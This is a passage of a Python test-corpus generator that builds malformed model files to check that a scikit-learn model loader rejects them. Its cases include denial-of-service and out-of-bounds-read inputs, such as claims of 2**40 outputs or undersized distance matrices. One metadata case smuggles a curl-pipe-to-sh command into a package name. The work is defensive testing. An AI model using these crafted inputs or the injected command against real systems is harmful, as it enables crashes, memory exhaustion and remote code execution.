    ("tree_feature_negative", "tree",
     lambda f: _set_field(f, attrs(_tree_node(f))["nodes"], feature=-3),
     "A split on feature -3.", "invalid Tree"),
    ("tree_node_count_mismatch", "tree",
     lambda f: attrs(_tree_node(f)).update(node_count=99),
     "node_count says 99 nodes.", "node_count 99 does not match"),
    ("tree_node_count_an_array", "tree",
     lambda f: attrs(_tree_node(f)).update(node_count=_inline("<i8", [2], bytes(16))),
     "node_count is an array.", "node_count must be a whole number, found ndarray"),
    ("tree_values_wrong_shape", "tree",
     lambda f: edit_array(f, attrs(_tree_node(f))["values"], lambda v: np.zeros(
         (v.shape[0], 1, 5))), "values of 5 classes for a 2-class tree.",
     "Wrong shape for value array from the pickle: expected (13, 1, 2), got (13, 1, 5)"),
    ("tree_n_features_disagree", "tree",
     lambda f: _tree_node(f)["args"].__setitem__(0, 10),
     "A Tree of 10 features in an estimator of 4.", "tree_ has 10 features, the estimator 4"),
    ("tree_estimator_holds_a_number", "tree", lambda f: attrs(f.tree).update(tree_=5),
     "A decision tree whose tree_ is the number 5.",
     "invalid DecisionTreeClassifier: tree_ must be a Tree, found int"),
    ("tree_without_state", "tree", lambda f: _tree_node(f).pop("state"),
     "A Tree built from its arguments, its state (nodes, values) left out.",
     "invalid Tree: the state needs nodes, values and node_count"),
    ("tree_feature_beyond_input", "tree", lambda f: _feature_beyond_input(f.tree, f),
     "n_features_in_ dropped, the Tree widened to 2**31 features, a split on the last one.",
     "feature"),
    ("forest_member_feature_beyond_input", "forest", _forest_feature_beyond_input,
     "The same in a forest's trees, stored as columns (the forest keeps n_features_in_ = 4).",
     "feature"),
    ("forest_values_without_rows_of_huge_width", "forest", _forest_values_without_rows,
     "A forest's Tree values stored as no rows of 2**40 x 2**40 entries (zero bytes).",
     "cannot take shape"),
    ("forest_row_counts_defined_later", "forest", _forest_row_counts_defined_later,
     "The row counts of a forest's Tree nodes refer to an array defined after them.",
     "points to no object defined before it"),
    ("hgb_right_child_backwards", "hgb",
     lambda f: _set_field(f, attrs(_predictor(f))["nodes"], right=0),
     "A predictor node whose right child is itself.", "invalid TreePredictor"),
    ("hgb_bitset_out_of_range", "hgb", lambda f: _categorical_split(f, 0, 100),
     "A categorical split whose bitset index is past the bitsets.",
     "does not cover the categorical splits"),
    ("hgb_categorical_split_on_numeric_feature", "hgb", lambda f: _categorical_split(f, 1, 0),
     "A categorical split on a numeric feature.", "a categorical split uses a numeric feature"),
    ("hgb_feature_beyond_input", "hgb",
     lambda f: (attrs(f.tree).pop("n_features_in_"),
                _set_field(f, attrs(_predictor(f))["nodes"], feature_idx=1 << 31)),
     "n_features_in_ dropped and a split on feature 2**31.", "feature"),
    ("hgb_predictor_is_a_number", "hgb",
     lambda f: attrs(f.tree).update(_predictors=[[5]]),
     "A gradient-boosting model whose predictor is the number 5.",
     "invalid HistGradientBoostingClassifier: _predictors must be a list of lists of"
     " predictors"),
    ("hgb_is_categorical_too_short", "hgb",
     lambda f: (_categorical_split(f, 3, 0), put_array(
         attrs(find(f.tree, "_BinMapper"))["is_categorical_"], np.ones(1, dtype=np.uint8))),
     "A categorical split on (binned) feature 3 with is_categorical_ of length 1.",
     "invalid HistGradientBoostingClassifier: _bin_mapper.is_categorical_ must hold one flag"
     " for each of its 4 features"),
    ("kdtree_node_range_outside", "kdtree",
     lambda f: _set_field(f, _binary_tree(f)[2], idx_end=10**6),
     "A node whose sample range ends past the data.", "sample range is outside the data"),
    ("kdtree_levels_disagree", "kdtree", lambda f: _binary_tree(f).__setitem__(5, 5),
     "n_levels says 5.", "node counts and levels disagree"),
    ("kdtree_one_bounds_row", "kdtree",
     lambda f: edit_array(f, _binary_tree(f)[3], lambda b: b[:1]),
     "A KD tree with only the lower node bounds (the query reads the upper ones too).",
     "node_bounds"),
    ("kdtree_metric_is_a_number", "kdtree", lambda f: _binary_tree(f).__setitem__(11, 5),
     "A KD tree whose distance metric is the number 5.",
     "the distance metric must be a DistanceMetric64"),
    ("kdtree_sample_weight_length", "kdtree",
     lambda f: _binary_tree(f).__setitem__(12, _inline("<f8", [3], bytes(24))),
     "Three sample weights for 80 samples.", "sample_weight must hold one weight per sample"),
    ("balltree_index_negative", "balltree",
     lambda f: edit_array(f, _binary_tree(f, "BallTree")[1], lambda a: a.__setitem__(0, -1)),
     "A ball tree whose idx_array holds -1.", "idx_array must index the samples"),
    ("balltree_haversine_of_4_features", "balltree",
     lambda f: find(f.tree, "MahalanobisDistance64").update(
         cls="sklearn.metrics._dist_metrics:HaversineDistance64"),
     "A ball tree of 4 features measured by the haversine distance, which reads 2 values of"
     " each point unchecked (past each row, for points of 1 value).",
     "haversine distances are between points of 2 values, not 4"),
    ("balltree_mahalanobis_vi_wrong_size", "balltree",
     lambda f: put_array(attrs(find(f.tree, "MahalanobisDistance64"))[2], np.eye(2)),
     "A Mahalanobis metric of 2x2 for 4 features.", "VI must be 4x4"),
    ("knn_mahalanobis_object_vi_4x1", "knn_mahalanobis_object",
     lambda f: put_array(attrs(find(f.tree, "MahalanobisDistance64"))[2], np.ones((4, 1))),
     "A brute-force neighbours regressor whose metric is a Mahalanobis DistanceMetric of"
     " VI 4x1 for 4 features: each distance read 3 values past VI's end.",
     "VI must be square, found 4x1"),
    ("svc_support_shape", "svc",
     lambda f: edit_array(f, attrs(f.tree)["support_"], lambda a: a[:-1]),
     "One support index fewer than support vectors.", "support vector counts disagree"),
    ("svc_dual_coef_rows_short", "svc", _svc_many_classes,
     "5000 classes whose 4999 rows of dual coefficients and 12497500 intercepts are 1 each.",
     "invalid SVC"),
    ("svc_without_support_indices", "svc", lambda f: attrs(f.tree).pop("support_"),
     "An SVC without support_.",
     "invalid SVC: a fitted model (it holds support_vectors_) needs ['support_']"),
    ("kmeans_threads_negative", "kmeans", lambda f: attrs(f.tree).update(_n_threads=-1),
     "_n_threads of -1, which OpenMP takes as 2**32 - 1 threads (and aborts at predict).",
     "_n_threads must be a whole number of threads"),
    ("hgb_wider_than_its_preprocessor", "hgb",
     lambda f: (attrs(f.tree).update(n_features_in_=1 << 31),
                _set_field(f, attrs(_predictor(f))["nodes"], feature_idx=1 << 30)),
     "n_features_in_ of 2**31 and a split on feature 2**30, past the 4 columns of the"
     " ColumnTransformer that validates the input instead of the model.",
     "_preprocessor selects columns"),
    ("hgb_preprocessor_is_a_number", "hgb", lambda f: attrs(f.tree).update(_preprocessor=5),
     "A gradient-boosting model whose _preprocessor is the number 5.",
     "_preprocessor must be a fitted ColumnTransformer"),
    ("gb_init_predicts_fewer_columns", "gb_init_narrower", lambda f: None,
     "A 3-class gradient boosting whose init_ (an MLP with classes_ of 3, fitted on 2)"
     " predicts 2 columns: the trees' third column went past each row (heap corruption).",
     "init_ does not predict the 3 columns"),
    ("bagging_n_jobs_100000", "bagging", lambda f: attrs(f.tree).update(n_jobs=100_000),
     "A bagging model asking for 100,000 workers: joblib would start them all to predict.",
     "n_jobs is 100000"),
    ("knn_stored_samples_narrower", "knn_fit_x_narrower", lambda f: None,
     "A brute-force KNN whose stored samples are 1 column wide for 4 features: the"
     " compiled search reads each as wide as the query.", "_fit_X has 1 columns for 4"),
    ("neighbors_metric_norms_given", "neighbors_norm_squared", lambda f: None,
     "Nearest neighbours whose metric parameters hold X_norm_squared of one entry, which"
     " the euclidean search indexes by stored sample.", "may not hold"),
    ("neighbors_mahalanobis_vi_1x1", "neighbors_mahalanobis_vi", lambda f: None,
     "A 1x1 Mahalanobis VI for 4 features, which scipy's cdist multiplies unchecked.",
     "VI must have shape (4, 4)"),
    ("birch_one_norm_for_many_centres", "birch_norms_short", lambda f: None,
     "A Birch model with one squared norm for all its subcluster centres.",
     "_subcluster_norms one norm of their dtype for each"),
    ("bisecting_kmeans_centres_of_50", "bisecting_center_wide", lambda f: None,
     "A bisecting k-means tree whose centres are 50 wide for 4 features (and no _X_mean).",
     "a centre of 4 floats"),
    ("nmf_negative_tolerance", "nmf",
     lambda f: attrs(f.tree).update(max_iter=10**15, tol=-1.0),
     "An NMF of 10**15 iterations to a tolerance of -1: transform would never return.",
     "'tol' parameter of NMF"),
    ("lda_10_15_document_iterations", "lda",
     lambda f: attrs(f.tree).update(max_doc_update_iter=10**15, mean_change_tol=0.0),
     "An LDA of 10**15 iterations per document to a tolerance of 0.",
     "max_doc_update_iter is 1000000000000000"),
    ("polynomial_columns_2_40", "polynomial",
     lambda f: attrs(find(f.tree, "PolynomialFeatures")).update(_n_out_full=1 << 40),
     "Degree-2 polynomial features of 4 inputs claiming 2**40 columns, which transform"
     " allocates for every row (terabytes).", "_n_out_full and n_output_features_ must be"
     " 15 and 15"),
    ("linear_coef_csc_of_2_40_rows", "linear",
     lambda f: attrs(f.tree).update(coef_={
         "$": "sparse", "cls": "csc_matrix", "shape": [1 << 40, 4],
         "data": _inline("<f8", [0], b""), "indices": _inline("<i4", [0], b""),
         "indptr": _inline("<i4", [5], bytes(20))}),
     "A linear regression whose coef_ is an empty CSC matrix of 2**40 rows (a few bytes):"
     " predict's product gave 2**40 outputs a row (640 TiB for 80 rows).",
     "coef_ is a sparse CSC matrix of shape (1099511627776, 4)"),
    ("kmeans_no_centres", "kmeans",
     lambda f: edit_array(f, attrs(f.tree)["cluster_centers_"], lambda c: c[:0]),
     "A k-means model of no centres: predict labelled every row 0 from a distance read"
     " past an empty buffer, and score read the missing first centre.",
     "cluster_centers_ holds no centre"),
    ("dummy_2_40_classes", "dummy", lambda f: attrs(f.tree).update(n_classes_=1 << 40),
     "A dummy classifier of two classes_ claiming 2**40: predict_proba allocated as many"
     " columns for every row (24 TiB for 3 rows).", "n_classes_ must count the classes_"),
    ("count_sketch_2_40_columns", "count_sketch",
     lambda f: attrs(find(f.tree, "PolynomialCountSketch")).update(n_components=1 << 40),
     "A polynomial count sketch of 10 hashed columns claiming 2**40, which transform"
     " allocated twice for every row (a pipeline's predict asked for 1280 TiB).",
     "n_components one from 1 to 16777216"),
    ("kmeans_centers_not_an_array", "kmeans",
     lambda f: attrs(f.tree).update(cluster_centers_=[[0.0] * 4] * 2),
     "cluster_centers_ as a JSON list.",
     "invalid KMeans: cluster_centers_ must be an array, found list"),
    ("bagging_feature_subsets_short", "bagging",
     lambda f: attrs(f.tree).update(estimators_features_=attrs(f.tree)[
         "estimators_features_"][:1]),
     "Three members, one feature subset.",
     "invalid BaggingClassifier: estimators_features_ must list the features of each of its 3"
     " members"),
]
for _label, _base, _edit, _about, _match in _MODELS:
    add(_label, _model(_base, _edit), _about, FormatError, _match, isolate="crash")
add("chi2_sampler_10_9_steps", _model("chi2_sampler", lambda f: attrs(find(
    f.tree, "AdditiveChi2Sampler")).update(sample_steps=10**9, sample_interval=0.5)),
    "An additive chi2 sampler of 10**9 steps, which transform took one by one, adding two"
    " copies of the input for each: a pipeline's predict grew by 5 KiB a step until memory"
    " ran out.", FormatError, "sample_steps is 1000000000", isolate="memory")
add("one_hot_dtype_of_a_gigabyte", _model("one_hot", lambda f: attrs(f.tree).update(
    dtype="(1000000000,)u1")),
    "A one-hot encoder whose dtype is the string '(1000000000,)u1', which numpy reads as"
    " a gigabyte a value: transform allocated one for every output (18 GiB for 80 rows).",
    FormatError, "dtype is '(1000000000,)u1'", isolate="memory")
for _base, _what in [("tree", "A decision tree"), ("forest", "A random forest")]:
    add(f"{_base}_claiming_2_40_outputs", _model(_base, lambda f: attrs(f.tree).update(
        n_outputs_=1 << 40)),
        f"{_what} of one output claiming 2**40: predict allocated as many columns for every"
        " row (terabytes).", FormatError, "n_outputs_ is 1099511627776",
        isolate="memory")
add("column_names_a_gigabyte_wide", _model("column_pipeline", lambda f: attrs(find(
    f.tree, "ColumnTransformer")).update(
        verbose_feature_names_out="{feature_name:>1500000000}",
        _sklearn_output_config={"$": "dict", "v": {"transform": "pandas"}})),
    "A column transformer giving pandas output whose names of output columns are formatted"
    " 1.5 GB wide: predict made a name that wide for every column (6 GB for 4 columns).",
    FormatError, "verbose_feature_names_out", isolate="memory")
add("dummy_regressor_2_40_outputs", _model("dummy_regressor", lambda f: attrs(f.tree).update(
    n_outputs_=1 << 40)),
    "A dummy regressor of one constant claiming 2**40 outputs: predict filled as many"
    " columns for every row (640 TiB for 80 rows).", FormatError,
    "constant_ must hold one row of a value for each of n_outputs_ outputs", isolate="memory")
add("count_vectorizer_ngrams_up_to_10_9", _model("count_vectorizer", lambda f: attrs(
    f.tree).update(ngram_range={"$": "tuple", "v": [1, 10**9]})),
    "A count vectorizer of n-grams up to 10**9 words: transform made every n-gram at every"
    " position of a document, gigabytes for 1500 words.", FormatError,
    "ngram_range is (1, 1000000000); a vectorizer may make n-grams of 1 to 32", isolate="memory")
add("count_sketch_degree_1000_of_2_24_columns", _model("count_sketch", _count_sketch_degree),
    "A polynomial count sketch of degree 1000 (its hashes 1000 rows of 4 features, a file of"
    " 2 KB) and 2**24 columns: transform allocated degree x n_components values for every row"
    " (5 TiB for 80 rows, then as much again in complex numbers).", FormatError,
    "degree x n_components at most 16777216", isolate="memory")
add("lle_2_30_components_of_one_column", _model("lle", lambda f: attrs(f.tree).update(
    n_components=1 << 30)),
    "A locally linear embedding of one column claiming 2**30 components: transform filled"
    " as many values for every row, 8 GiB a row.", FormatError,
    "n_components is 1073741824; it must be the columns of embedding_", isolate="memory")
add("minibatch_nmf_2_30_components_of_two", _model("minibatch_nmf", lambda f: attrs(
    f.tree).update(_n_components=1 << 30)),
    "A mini-batch NMF of two components claiming 2**30: transform filled as many values for"
    " every row before it multiplied them (8 GiB a row).", FormatError,
    "_n_components is 1073741824; it must be the rows of components_", isolate="memory")
add("linear_intercept_a_range_index_of_2_33", _model("linear", lambda f: attrs(
    f.tree).update(intercept_={"$": "pandas", "kind": "RangeIndex", "v": [0, 1 << 33, 1],
                               "name": None})),
    "A linear regression whose intercept_ is a pandas RangeIndex of 2**33 numbers (a few"
    " bytes): predict added it to every row, making an array of 64 GiB first.", LimitError,
    "a RangeIndex of 8589934592 numbers: one holds at most 1000000", isolate="memory")
add("hgb_2_40_trees_per_iteration", _model("hgb", lambda f: attrs(f.tree).update(
    n_trees_per_iteration_=1 << 40)),
    "A gradient-boosting model of one tree per iteration claiming 2**40: predict allocated"
    " as many values for every row and added the baseline to each (640 TiB for 80 rows).",
    FormatError, "n_trees_per_iteration_ is 1099511627776; it must be the width of"
    " _baseline_prediction", isolate="memory")
add("forest_one_class_claiming_2_40", _model("forest_one_class", lambda f: attrs(
    f.tree).update(n_classes_=1 << 40)),
    "A random forest of one class claiming 2**40: predict_proba allocated as many columns for"
    " every row and added each tree's one column to all of them (640 TiB for 80 rows).",
    FormatError, "n_classes_ is 1099511627776; it must count the classes_", isolate="memory")
add("function_mahalanobis_vi_1x1", _model("pairwise_pipeline", _mahalanobis_keywords),
    "A pipeline's FunctionTransformer calling pairwise_distances with metric='mahalanobis'"
    " and a 1x1 VI in its kw_args: scipy read VI as wide as the input, past its end (a crash"
    " for 3000 features).", FormatError, "kw_args give a function a Mahalanobis VI",
    isolate="crash")
add("function_metric_kwargs_norms_of_one", _model("argmin_function", lambda f: attrs(find(
    f.tree, "FunctionTransformer"))["kw_args"]["v"].update(metric_kwargs={"$": "dict", "v": {
        "X_norm_squared": _inline("<f8", [1], bytes(8))}})),
    "A FunctionTransformer calling pairwise_distances_argmin with one squared norm in its"
    " metric_kwargs: the compiled euclidean search read one per input row, past its end.",
    FormatError, "kw_args give a function squared norms", "('X_norm_squared')",
    isolate="crash")
add("hdbscan_linkage_node_10_9", _model("hdbscan", lambda f: _set_field(
    f, attrs(f.tree)["_single_linkage_tree_"], left_node=10**9)),
    "An HDBSCAN model whose single-linkage tree joins node 10**9: dbscan_clustering wrote"
    " that far into a union-find of 159 entries (a crash).", FormatError,
    "_single_linkage_tree_ names a left_node outside its 159 nodes", isolate="crash")
add("linear_intercept_a_range_of_2_33", _model("linear", lambda f: attrs(f.tree).update(
    intercept_={"$": "range", "v": [0, 1 << 33, 1]})),
    "A linear regression whose intercept_ is a range of 2**33 numbers (a few bytes): predict"
    " added it to every row, making an array of 64 GiB first.", LimitError,
    "a range holds at most 1000000 numbers", isolate="memory")


# ---------------------------------------------------------------- metadata

for _label, _metadata, _match, _options in [
    ("unknown_field", {"pickle": "gASV"}, "metadata.pickle: unknown field", ()),
    ("packages_not_strings", {"environment": {"packages": {"numpy": 2}}},
     "metadata.environment.packages", ()),
    ("schema_input_not_an_object", {"schema": {"input": "x", "output": None}},
     "metadata.schema.input", ()),
    ("column_dtype_of_a_gigabyte", {"schema": {"input": {"kind": "frame", "columns": [
        {"name": "a", "dtype": "V1000000000", "kind": "float", "nullable": False}]},
        "output": None}}, "metadata.schema.input.columns[0].dtype", ()),
    ("column_dtype_name_of_5000_characters", {"schema": {"input": {"kind": "frame", "columns": [
        {"name": "a", "dtype": ",".join(["i1"] * 1667), "kind": "float", "nullable": False}]},
        "output": None}}, "a name of 5000 characters", ()),
    ("array_dtype_not_a_string", {"schema": {"input": {"kind": "array", "n_features": 1,
        "dtype": {"x": 1}}, "output": None}}, "metadata.schema.input.dtype: expected the", ()),
    ("array_dtype_not_numpy", {"schema": {"input": {"kind": "array", "n_features": 1,
        "dtype": "no such type"}, "output": None}}, "numpy does not read as a dtype", ()),
    ("check_sample_not_an_object", {"check": {"rows": 1, "tree": 5}},
     "metadata.check: expected rows (an integer) and tree (a node)",
     (("verify", True),)),
    ("check_sample_without_input", {"check": {"rows": 1, "tree": {"$": "dict", "v": {
        "outputs": {"$": "dict", "v": {}}}}}}, "the sample's input", (("verify", True),)),
    ("check_sample_outputs_a_list", {"check": {"rows": 1, "tree": {"$": "dict", "v": {
        "input": [[1.0]], "outputs": [1]}}}}, "the sample's input", (("verify", True),)),
    # A few bytes of sparse matrix of no values: the model was run on all of its rows.
    ("check_sample_input_of_200_million_rows", {"check": {"rows": 50, "tree": {
        "$": "dict", "v": {"input": _empty_coo([200_000_000, 3]), "outputs": {
            "$": "dict", "v": {}}}}}},
     "expected the sample's input and outputs to hold its 50 rows", (("verify", True),)),
    ("check_sample_output_of_2_40_rows", {"check": {"rows": 1, "tree": {"$": "dict", "v": {
        "input": [[1.0]], "outputs": {"$": "dict", "v": {
            "predict_proba": _empty_coo([1 << 40, 2])}}}}}},
     "found [1, 1099511627776]", (("verify", True),)),
    ("check_sample_of_2_million_rows", {"check": {"rows": 2_000_000, "tree": {
        "$": "dict", "v": {"input": _empty_coo([2_000_000, 3]), "outputs": {
            "$": "dict", "v": {}}}}}}, "(1 to 1048576", (("verify", True),)),
    ("packages_1001", {"environment": {"packages": {f"p{i}": "1" for i in range(1001)}}},
     "expected at most 1000 packages", ()),
    # MissingCodeError's fix is 'pip install NAME==VERSION', which a user may paste.
    ("code_distribution_a_shell_command", {"code": [{
        "module": "m", "distribution": "x' && curl https://example.com/x | sh && echo '",
        "version": "1"}]}, "metadata.code[0]: expected the name and version", ()),
]:
    add(f"metadata_{_label}", functools.partial(rooted, 1, metadata=_metadata),
        f"Metadata: {_label}.", FormatError, _match, options=_options)


def main() -> None:
    """Rewrite this module's corpus files."""
    CORPUS.mkdir(exist_ok=True)
    for item in CASES.values():
        item.path.write_bytes(item.build())
    print(f"wrote {len(CASES)} hostile files to {CORPUS}", file=sys.stderr)


if __name__ == "__main__":
    main()
